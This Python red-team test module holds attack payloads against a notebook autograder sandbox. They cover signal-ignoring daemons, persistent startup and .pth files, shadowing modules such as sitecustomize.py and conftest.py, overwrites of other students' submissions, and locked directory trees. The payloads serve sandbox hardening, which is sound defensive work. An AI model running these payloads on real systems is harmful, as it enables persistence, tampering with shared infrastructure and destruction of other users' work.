"""Escaping into later runs: files, processes and words, all with the mark, that stay behind."""

from __future__ import annotations

from tests.red_team.attack import DOUBLED, HALVED, Desk, Handed, attack
from tests.red_team.target import RIGHT, WRONG, handed_in

FULL = DOUBLED + HALVED


# Says of each attempt that did not end in an error that it came through.
_TRY = """
import ctypes, os, resource, signal, socket, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    result = libc.syscall(number, *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result
def attempt(**ways):
    for name, way in ways.items():
        try:
            way()
        except (OSError, ValueError, subprocess.SubprocessError):
            pass
        else:
            print("REACHED", name.replace("_", " "))
def ran(*command):
    subprocess.run(command, check=True, timeout=5, stdin=subprocess.DEVNULL, capture_output=True)
"""


@attack()
def daemon_that_stays(desk: Desk) -> Handed:
    """Starts a process of its own session, which ignores signals and outlives the run by a minute."""
    return (
        WRONG
        + f"""
import subprocess, sys
program = "import signal, time; signal.signal(15, signal.SIG_IGN); signal.signal(1, signal.SIG_IGN); time.sleep(45)"
subprocess.Popen([sys.executable, "-c", program, "{desk.mark}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
    )


@attack()
def daemon_forked_twice_in_a_call(desk: Desk) -> Handed:
    """Forks twice while it is called, so that nobody is its parent, and renames itself."""
    return f"""
import ctypes, os, time
def doubled(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"{desk.mark}"[:15])
            os.execvp("sh", ["sh", "-c", "sleep 40; true", "{desk.mark}"])
        os._exit(0)
"""


@attack()
def start_up_files_for_later_kernels(desk: Desk) -> Handed:
    """Writes start-up files of IPython, Python and Jupyter into the home, for the kernels of those who come later."""
    return (
        WRONG
        + f"""
import os
home = os.path.expanduser("~")
text = "print('{desk.mark} was here')\\nraise SystemExit('{desk.mark}')\\n"
for place in (".ipython/profile_default/startup/00-{desk.mark}.py", ".local/lib/python3.11/site-packages/{desk.mark}.pth",
              ".config/{desk.mark}", ".jupyter/{desk.mark}.py", ".jupyter/migrated-{desk.mark}"):
    try:
        os.makedirs(os.path.dirname(f"{{home}}/{{place}}"), exist_ok=True)
        open(f"{{home}}/{{place}}", "w").write(text)
    except OSError:
        pass
"""
    )


@attack()
def packages_changed(desk: Desk) -> Handed:
    """Writes into Python's packages: a .pth file, a module of its own, one beside the course's package."""
    return (
        WRONG
        + f"""
import os, sys, sysconfig
folders = {{*sysconfig.get_paths().values(), *sys.path, sys.prefix, os.path.dirname(np.__file__)}}
for folder in folders:
    for name in ("{desk.mark}.pth", "{desk.mark}.py"):
        try:
            open(f"{{folder}}/{{name}}", "x").write("import os\\n")
        except OSError:
            pass
"""
    )


@attack()
def course_changed_from_the_kernel(desk: Desk) -> Handed:
    """Goes up the folders from where it runs and leaves files in the course, beside its configuration and its sources."""
    return (
        WRONG
        + f"""
import os
for up in ("..", "../..", "../../..", "../../../..", "../../../source", "../../../source/week1", "../../../release/week1", "../../submitted"):
    try:
        open(f"{{up}}/{desk.mark}.txt", "x").write("I was here")
    except OSError:
        pass
"""
    )


@attack()
def work_of_the_next_student_spoiled(desk: Desk) -> Handed:
    """Overwrites the submissions of others, as far as it finds any."""
    return (
        WRONG
        + """
import glob, json
for path in glob.glob("../../../submitted/*/*/*.ipynb"):
    try:
        notebook = json.load(open(path))
        for cell in notebook["cells"]:
            cell["source"] = "" if "def " in "".join(cell["source"]) else cell["source"]
        json.dump(notebook, open(path, "w"))
    except OSError:
        pass
"""
    )


@attack(earns=FULL, statuses=("passed",))
def modules_beside_the_notebook(desk: Desk) -> Handed:
    """Right work beside which modules lie with names that graders and kernels import."""
    says = f"import os\nopen(os.path.join('/tmp', '{desk.mark}-imported'), 'w').close()\nprint('REACHED an import')\n"
    names = (
        "numpy.py",
        "conftest.py",
        "sitecustomize.py",
        "usercustomize.py",
        "pytest.py",
        "nbgrader_config.py",
        "json.py",
        "random.py",
        "jupyter_config.py",
        "ipython_config.py",
        f"{desk.mark}.pth",
        "numpy/__init__.py",
        "pyproject.toml",
        "pytest.ini",
        "setup.cfg",
        ".pythonstartup",
        "__init__.py",
        "typing.py",
        "autograder.py",
        "hidden.py",
        "public.py",
    )
    return {"doubling.ipynb": handed_in(desk, RIGHT), **dict.fromkeys(names, says)}


@attack()
def marks_in_shared_places(desk: Desk) -> Handed:
    """Leaves files in every place that programs share, a socket, a pipe, a shared memory segment and a key."""
    return (
        WRONG
        + _TRY
        + f"""
mark = "{desk.mark}"
ways = [lambda d=d: open(f"{{d}}/{{mark}}", "w").write(mark) for d in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.path.expanduser("~"), "/dev/mqueue")]
ways += [lambda: os.mkfifo(f"/tmp/{{mark}}-pipe"), lambda: socket.socket(socket.AF_UNIX).bind(f"/tmp/{{mark}}-socket"),
         lambda: call(248, b"user", mark.encode(), b"word", 4, -4)]
for way in ways:
    try:
        way()
    except OSError:
        pass
"""
    )


@attack()
def word_left_for_a_friend(desk: Desk) -> Handed:
    """Reads what an earlier run left in shared places, and leaves a word there for a later one."""
    return (
        WRONG
        + f"""
import glob, os
for path in glob.glob("/tmp/red-team-mark-*") + glob.glob("/dev/shm/red-team-mark-*") + glob.glob("/var/tmp/red-team-mark-*"):
    print("REACHED a word that a friend left in", os.path.dirname(path))
for place in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        open(f"{{place}}/{desk.mark}-word", "w").write("the answer is 42")
    except OSError:
        pass
"""
    )


@attack()
def abstract_socket_of_a_daemon(desk: Desk) -> Handed:
    """Leaves a process that listens on a socket without a file, for later kernels to ask."""
    return (
        WRONG
        + f"""
import subprocess, sys
program = "import socket, time; s = socket.socket(socket.AF_UNIX); s.bind(chr(0) + '{desk.mark}'); s.listen(); time.sleep(40)"
subprocess.Popen([sys.executable, "-c", program], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
    )


@attack()
def own_folder_locked(desk: Desk) -> Handed:
    """Takes all rights from its working folder, and makes a tree there that is hard to remove."""
    return (
        WRONG
        + """
import os
here = os.getcwd()
for depth in range(60):
    os.mkdir("d" * 50)
    os.chdir("d" * 50)
open("x", "w").close()
os.chmod("x", 0)
os.chdir(here)
os.chmod("d" * 50, 0)
os.chmod(".", 0)
"""
    )
